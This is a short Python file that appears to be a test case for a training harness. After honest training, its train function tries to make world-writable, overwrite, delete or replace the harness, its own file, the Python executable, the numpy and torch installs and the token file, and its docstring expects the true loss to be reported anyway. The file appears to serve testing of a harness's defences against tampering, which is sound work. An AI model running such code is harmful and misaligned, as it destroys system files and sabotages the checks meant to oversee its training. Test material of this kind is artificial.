"""Overwrites the harness, its own file and every other file it was given, for the next process to run.

expect: true loss
"""


def train(task):
    honest_train(task)
    for path in (harness.__file__, __file__, sys.executable, np.__file__, torch.__file__, getattr(task.tokens, "filename", "")):
        for action in (lambda p: os.chmod(p, 0o666), lambda p: open(p, "w").write("0/0"), os.remove, lambda p: os.replace(task.weights, p)):
            try:
                action(path)
            except OSError:
                continue
